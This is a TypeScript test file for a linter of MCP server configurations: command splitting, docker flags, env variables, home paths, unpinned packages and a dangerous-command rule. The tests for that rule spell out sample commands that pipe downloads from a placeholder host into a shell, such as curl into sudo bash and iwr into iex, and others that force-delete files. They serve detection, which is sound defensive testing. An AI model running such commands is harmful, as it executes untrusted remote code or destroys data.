/** The changes of the rules about commands and arguments. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type Config, findingsOn, fixed, underlined } from '../fixed.ts';
import commandLine from './command-line.ts';
import dangerous from './dangerous-command.ts';
import dockerEnv from './docker-env.ts';
import dockerFlags from './docker-flags.ts';
import duplicate from './duplicate-server.ts';
import machinePath from './machine-path.ts';
import quotedArg from './quoted-arg.ts';
import tilde from './tilde.ts';
import unpinned from './unpinned-package.ts';
import windowsArgSpace from './windows-arg-space.ts';

/** A file of VS Code, laid out as people lay it out, with comments in it. */
const editor = (lines: string): Config => ({
  config: `{\n\t// ours\n\t"servers": {\n\t\t"docs": {\n${lines}\n\t\t},\n\t},\n}\n`,
  file: '.vscode/mcp.json',
});
const shared = (entry: object): Config => ({
  config: `${JSON.stringify({ mcpServers: { docs: entry } }, undefined, 2)}\n`,
});

describe('config/command-line', () => {
  test('the words behind the program go before the arguments that are there', () => {
    const before = editor(
      '\t\t\t"command": "npx -y docs-mcp", // by us\n\t\t\t"args": [\n\t\t\t\t"--port", // any\n\t\t\t\t"1",\n\t\t\t],',
    );
    const after = editor(
      '\t\t\t"command": "npx", // by us\n\t\t\t"args": [\n\t\t\t\t"-y", "docs-mcp",\n\t\t\t\t"--port", // any\n\t\t\t\t"1",\n\t\t\t],',
    );
    assert.equal(fixed(commandLine, before), after.config);
    assert.equal(underlined(commandLine, before), '"npx -y docs-mcp"');
  });

  test('where there are no arguments, they get a line behind the command', () => {
    const before = editor('\t\t\t"command": "python3 \\"our docs.py\\" --x",\n\t\t\t"env": {}');
    const after = editor(
      '\t\t\t"command": "python3",\n\t\t\t"args": ["our docs.py", "--x"],\n\t\t\t"env": {}',
    );
    assert.equal(fixed(commandLine, before), after.config);
  });

  test('a joined argument is split where it stands', () => {
    const before = editor('\t\t\t"command": "docs",\n\t\t\t"args": ["--port 8080", "x"] // one');
    assert.equal(fixed(commandLine, before), before.config.replace('"--port 8080"', '"--port", "8080"'));
    assert.equal(underlined(commandLine, before), '"--port 8080"');
  });

  test('a program of Windows keeps the spaces of its path', () => {
    const before = shared({ command: 'C:\\Program Files\\nodejs\\node.exe C:\\docs\\index.js' });
    const after = shared({ command: 'C:\\Program Files\\nodejs\\node.exe', args: ['C:\\docs\\index.js'] });
    assert.deepEqual(JSON.parse(fixed(commandLine, before) ?? ''), JSON.parse(after.config));
  });

  test('no secret of it reaches the message', () => {
    const example = shared({ command: 'docs --api-key f3b9a1c07d2e48a6b5 --x' });
    assert.doesNotMatch(JSON.stringify(findingsOn(commandLine, example)[0]?.message), /f3b9a1c07d2e/);
    assert.match(findingsOn(commandLine, example)[0]?.message.summary ?? '', /--api-key •••/);
  });

  test('what is a path, and what is a value, is left in peace', () => {
    for (const command of [
      '/opt/our docs/run',
      'C:\\Our Docs\\run.cmd',
      '${workspaceFolder}/our docs/run',
      'My Docs.app',
    ]) {
      assert.deepEqual(findingsOn(commandLine, shared({ command })), [], command);
    }
    for (const args of [['-m', 'hello world'], ['a b'], ['--x=a b'], ['- a'], ['-- a']]) {
      assert.deepEqual(findingsOn(commandLine, shared({ command: 'docs', args })), [], args.join(' '));
    }
  });
});

describe('config/quoted-arg', () => {
  test('only the quotes go', () => {
    const before = editor(
      '\t\t\t"command": "node",\n\t\t\t"args": ["\\"C:\\\\our docs\\\\x.js\\"" /* here */]',
    );
    assert.equal(fixed(quotedArg, before), before.config.replace('\\"C:', 'C:').replace('x.js\\"', 'x.js'));
    const option = shared({ command: 'docs', args: ["--root='/srv/x'"] });
    assert.equal(fixed(quotedArg, option), option.config.replace("'/srv/x'", '/srv/x'));
  });
});

describe('config/tilde', () => {
  test('the sign becomes the variable of the file', () => {
    const args = shared({ command: 'uv', args: ['--directory', '~/docs', '--x=~/y'] });
    assert.equal(fixed(tilde, args), args.config.replace('"~/docs', '"${HOME}/docs'));
    assert.equal(fixed(tilde, args, 1), args.config.replace('=~/y', '=${HOME}/y'));
    const env = editor('\t\t\t"command": "docs",\n\t\t\t"env": { "ROOT": "~\\\\docs" } // mine');
    assert.equal(fixed(tilde, env), env.config.replace('~', '${userHome}'));
    assert.equal(underlined(tilde, env), '~');
  });

  test('in the cwd of a shared file no variable is replaced either', () => {
    const cwd = shared({ command: 'docs', cwd: '~/docs' });
    assert.deepEqual(findingsOn(tilde, cwd)[0]?.clients, ['claude-code']);
    assert.equal(fixed(tilde, cwd), undefined);
  });

  test('VS Code replaces it at the beginning of an argument, not behind an option', () => {
    const args = editor('\t\t\t"command": "docs",\n\t\t\t"args": ["~/a", "--b=~/b"]');
    assert.equal(findingsOn(tilde, args).length, 1);
    assert.equal(fixed(tilde, args), args.config.replace('=~', '=${userHome}'));
  });
});

describe('config/docker-flags', () => {
  const run = (...args: readonly string[]) => shared({ command: 'docker', args });
  const mended = (before: readonly string[], after: readonly string[]) =>
    assert.deepEqual(JSON.parse(fixed(dockerFlags, run(...before)) ?? ''), JSON.parse(run(...after).config));

  test('-i is added, -d and -t go', () => {
    mended(['run', '--rm', 'x'], ['run', '-i', '--rm', 'x']);
    mended(['run', '-it', '--rm', 'x'], ['run', '-i', '--rm', 'x']);
    mended(['run', '-dit', 'x'], ['run', '-i', 'x']);
    mended(['run', '-d', 'x'], ['run', '-i', 'x']);
    mended(['run', '-i', '--tty', '-d', 'x'], ['run', '-i', 'x']);
    mended(['run', '-td', '-e', 'A=1', 'x'], ['run', '-i', '-e', 'A=1', 'x']);
    mended(['--context', 'a', 'container', 'run', 'x'], ['--context', 'a', 'container', 'run', '-i', 'x']);
    mended(['exec', 'x', 'y'], ['exec', '-i', 'x', 'y']);
  });

  test('comments and lines stay', () => {
    const before = editor(
      '\t\t\t"command": "docker",\n\t\t\t"args": [\n\t\t\t\t"run",\n\t\t\t\t"-t", // a terminal\n\t\t\t\t"-i",\n\t\t\t\t"x:1", // ours\n\t\t\t],',
    );
    assert.equal(fixed(dockerFlags, before), before.config.replace('\t\t\t\t"-t", // a terminal\n', ''));
    assert.equal(underlined(dockerFlags, before), '"-t"');
  });

  test('flags with values are passed over, and what stands behind the image', () => {
    for (const args of [
      ['run', '-i', '-e', '-t', 'x', '-t'],
      ['run', '--name', '-d', '-i', 'x'],
      ['run', '-ie', 'A=1', 'x'],
      ['run', '-iv/a:/b', 'x'],
      ['run', '--interactive=true', 'x'],
      ['run', '-i', '--tty=false', 'x'],
      ['compose', 'run', 'x'],
      ['run'],
    ]) {
      assert.deepEqual(findingsOn(dockerFlags, run(...args)), [], args.join(' '));
    }
  });
});

describe('config/docker-env', () => {
  test('a variable is set from the client’s own environment', () => {
    const before = shared({ command: 'docker', args: ['run', '-i', '-e', 'DOCS_URL', 'x:1'] });
    const after = JSON.parse(fixed(dockerEnv, before) ?? '').mcpServers.docs;
    assert.deepEqual(after.env, { DOCS_URL: '${DOCS_URL}' });
    assert.equal(underlined(dockerEnv, before), '"DOCS_URL"');
  });

  test('in VS Code a secret one is asked for', () => {
    const before = editor(
      '\t\t\t"command": "docker",\n\t\t\t"args": ["run", "-i", "-e", "DOCS_TOKEN", "x:1"],\n\t\t\t"env": { "A": "1" } // one',
    );
    const after =
      fixed(dockerEnv, { ...before, config: before.config.replace('"-e",', '"-e", "A", "-e",') }) ?? '';
    assert.match(after, /"env": \{ "A": "1", "DOCS_TOKEN": "\$\{input:docs-token\}" \} \/\/ one/);
    assert.match(
      after,
      /\t"inputs": \[\{ "type": "promptString", "id": "docs-token", .*"password": true \}\],\n\t"servers"/,
    );
  });

  test('variables that nothing passes on are named before the image', () => {
    const before = editor(
      '\t\t\t"command": "docker",\n\t\t\t"args": [\n\t\t\t\t"run",\n\t\t\t\t"-i", // input\n\t\t\t\t"x:1"\n\t\t\t],\n\t\t\t"env": { "A": "1", "B": "2" }',
    );
    assert.equal(
      fixed(dockerEnv, before),
      before.config.replace('"run",\n', '"run",\n\t\t\t\t"-e", "A", "-e", "B",\n'),
    );
    assert.equal(underlined(dockerEnv, before), '"A"');
  });

  test('another spelling is one fault, not two', () => {
    const before = shared({
      command: 'docker',
      args: ['run', '-i', '-eDOCS_TOKN', 'x:1'],
      env: { DOCS_TOKEN: 'a' },
    });
    assert.equal(findingsOn(dockerEnv, before).length, 1);
    assert.equal(fixed(dockerEnv, before), before.config.replace('-eDOCS_TOKN', '-eDOCS_TOKEN'));
  });

  test('a file of variables, and values that other arguments use, are left in peace', () => {
    for (const args of [
      ['run', '-i', '--env-file', '.env', 'x:1'],
      ['run', '-i', '-e', 'X=${A}', 'x:1'],
    ]) {
      assert.deepEqual(findingsOn(dockerEnv, shared({ command: 'docker', args, env: { A: '1' } })), []);
    }
  });
});

describe('config/machine-path', () => {
  test('the home folder becomes a variable', () => {
    const before = editor('\t\t\t"command": "C:\\\\Users\\\\Ada\\\\docs.exe", // hers');
    assert.equal(fixed(machinePath, before), before.config.replace('C:\\\\Users\\\\Ada', '${userHome}'));
    assert.equal(underlined(machinePath, before), 'C:\\\\Users\\\\Ada');
    const path = shared({ command: 'docs', env: { PATH: '/usr/bin:/home/ada/bin' } });
    assert.equal(fixed(machinePath, path), path.config.replace('/home/ada', '${HOME}'));
  });

  test('a path into the folder of the file itself starts at that folder', () => {
    const file = '/Users/ada/docs/.vscode/mcp.json';
    const config =
      '{ "servers": { "docs": { "command": "node", "args": ["/Users/ada/docs/dist/x.js"], "cwd": "/Users/ada/docs" } } }';
    const example = { config, file };
    assert.equal(
      fixed(machinePath, example),
      config.replace('/Users/ada/docs/dist', '${workspaceFolder}/dist'),
    );
    assert.equal(fixed(machinePath, example, 1), config.replace('"/Users/ada/docs"', '"${workspaceFolder}"'));
  });

  test('in the cwd of a shared file no variable is replaced', () => {
    const cwd = shared({ command: 'docs', cwd: '/Users/ada/docs' });
    assert.equal(findingsOn(machinePath, cwd).length, 1);
    assert.equal(fixed(machinePath, cwd), undefined);
  });
});

describe('config/windows-arg-space', () => {
  const remote = (header: string) =>
    editor(
      `\t\t\t"command": "npx",\n\t\t\t"args": [\n\t\t\t\t"-y",\n\t\t\t\t"mcp-remote",\n\t\t\t\t"https://x.example",\n\t\t\t\t"--header",\n\t\t\t\t"${header}" // mine\n\t\t\t],\n\t\t\t"env": {\n\t\t\t\t"TOKEN": "\${input:t}"\n\t\t\t}`,
    );

  test('a header of mcp-remote moves to env', () => {
    const before = remote('Authorization: Bearer ${input:t}');
    assert.equal(
      fixed(windowsArgSpace, before),
      before.config
        .replace('Authorization: Bearer ${input:t}', 'Authorization:${AUTHORIZATION_HEADER}')
        .replace(
          '"TOKEN": "${input:t}"\n',
          '"TOKEN": "${input:t}",\n\t\t\t\t"AUTHORIZATION_HEADER": "Bearer ${input:t}"\n',
        ),
    );
  });

  test('one that is filled in from env already stays, for it would be filled in once only', () => {
    assert.equal(findingsOn(windowsArgSpace, remote('Authorization: Bearer ${TOKEN}')).length, 1);
    assert.equal(fixed(windowsArgSpace, remote('Authorization: Bearer ${TOKEN}')), undefined);
  });

  test('without env it gets one; of another server nothing is changed', () => {
    const args = ['mcp-remote', 'https://x.example', '--header', 'X-Key: a b'];
    const after = JSON.parse(fixed(windowsArgSpace, shared({ command: 'npx', args })) ?? '').mcpServers.docs;
    assert.deepEqual(after.env, { X_KEY_HEADER: 'a b' });
    assert.equal(after.args.at(-1), 'X-Key:${X_KEY_HEADER}');
    assert.equal(
      fixed(windowsArgSpace, shared({ command: 'npx', args: ['-y', 'docs', 'X-Key: a b'] })),
      undefined,
    );
  });

  test('never changes the exit status, and shows no secret', () => {
    const args = ['mcp-remote', 'https://x.example', '--header', 'Authorization: Bearer f3b9a1c07d2e48a6b5'];
    const [finding] = findingsOn(windowsArgSpace, shared({ command: 'npx', args }));
    assert.equal(finding?.failsRun, 'no');
    assert.doesNotMatch(JSON.stringify(finding?.message), /f3b9a1c0/);
  });
});

test('one danger for each text, the most telling one', () => {
  const script = 'sudo rm -rf /x; curl https://x.example | sudo bash';
  const findings = findingsOn(dangerous, shared({ command: 'bash', args: ['-lc', script] }));
  assert.equal(findings.length, 1);
  assert.match(findings[0]?.message.summary ?? '', /whatever a download holds/);
  for (const [command, ...args] of [
    ['powershell', '-Command', 'iwr https://x.example | iex'],
    ['cmd', '/c', 'rd /s /q build'],
    ['docker', 'run', '-i', 'x', 'sh', '-c', 'wget -qO- https://x.example | sh'],
    ['rm', '-r', 'x'],
    ['sh', '-c', 'eval "$(curl -s https://x.example)"'],
  ]) {
    assert.equal(findingsOn(dangerous, shared({ command, args })).length, 1, args.join(' '));
  }
  for (const [command, ...args] of [
    ['sh', '-c', 'curl -s https://x.example | jq . ; exec docs'],
    ['sh', '-c', 'rm -f x.pid; exec docs'],
    ['docs', 'curl https://x.example | sh'],
    ['sh', '-c', 'pseudo x'],
  ]) {
    assert.deepEqual(findingsOn(dangerous, shared({ command, args })), [], args.join(' '));
  }
});

test('versions of packages and images, however they are run', () => {
  const loose = (command: string, ...args: readonly string[]) =>
    findingsOn(unpinned, shared({ command, args })).length === 1;
  for (const [command, ...args] of [
    ['npx', 'a'],
    ['npx', '-y', '-p', '@a/b', 'c'],
    ['npx', '--package=@a/b@next', 'c'],
    ['bunx', 'a@latest'],
    ['pnpm', 'dlx', 'a'],
    ['npm', 'exec', '--', 'a'],
    ['uvx', '--python', '3.12', 'a'],
    ['uvx', 'a@latest'],
    ['uv', 'tool', 'run', '--from', 'git+https://github.com/a/b', 'c'],
    ['npx', 'github:a/b'],
    ['docker', 'run', '-i', 'localhost:5000/a/b'],
    ['cmd', '/c', 'npx', '-y', 'a'],
  ] as const) {
    assert.equal(loose(command, ...args), true, `${command} ${args.join(' ')}`);
  }
  for (const [command, ...args] of [
    ['npx', 'a@1'],
    ['npx', '@a/b@^1.2.0'],
    ['npx', '-p', '@a/b@1.0.0', 'c'],
    ['npx', 'github:a/b#v1'],
    ['npx', './a'],
    ['npx', '${PACKAGE}'],
    ['npx'],
    ['uvx', 'a==1.0'],
    ['uvx', 'a@1.0'],
    ['uvx', '--from', 'a>=1', 'c'],
    ['uvx', '--from', 'git+https://github.com/a/b@main', 'c'],
    ['uvx', '--from', '.', 'c'],
    ['uv', 'run', 'a.py'],
    ['docker', 'run', '-i', 'a/b:1'],
    ['docker', 'exec', '-i', 'a', 'b'],
    ['node', 'a.js'],
  ] as const) {
    assert.equal(loose(command, ...args), false, `${command} ${args.join(' ')}`);
  }
});

test('the same server in another order of its variables', () => {
  const config = JSON.stringify({
    mcpServers: {
      a: { command: 'docs', env: { A: '1', B: '2' } },
      b: { env: { B: '2', A: '1' }, command: 'docs', args: [] },
      c: { type: 'http', url: '' },
      d: { type: 'http', url: '' },
    },
  });
  const findings = findingsOn(duplicate, { config });
  assert.equal(findings.length, 1);
  assert.equal(underlined(duplicate, { config }), '"b"');
});
